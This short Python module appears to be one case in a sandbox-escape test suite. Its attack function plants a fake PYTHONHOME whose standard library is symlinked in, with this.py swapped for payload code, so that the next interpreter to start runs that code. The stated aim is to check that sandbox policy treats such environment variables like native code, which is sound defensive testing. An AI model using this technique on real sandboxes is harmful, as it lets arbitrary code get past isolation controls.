"""PYTHONHOME is planted where nobody restricts ffi."""
CATEGORY = "ways out"
REACH = "net"
POLICIES = "allow"
BEYOND = ("Variables that make an interpreter or the linker run other code "
          "are native code's equals: restrict ffi.")

import os

from . import payload


def attack():
    import encodings
    root = payload.ROOT + "/tmp/home"
    there = os.path.dirname(os.path.dirname(encodings.__file__))
    os.makedirs(root + "/lib")
    os.mkdir(f"{root}/lib/{payload.LIBRARY}")
    for file in os.listdir(there):
        os.symlink(f"{there}/{file}", f"{root}/lib/{payload.LIBRARY}/{file}")
    os.remove(f"{root}/lib/{payload.LIBRARY}/this.py")
    with open(f"{root}/lib/{payload.LIBRARY}/this.py", "w") as file:
        file.write(payload.SOURCE)
    os.environ["PYTHONHOME"] = root
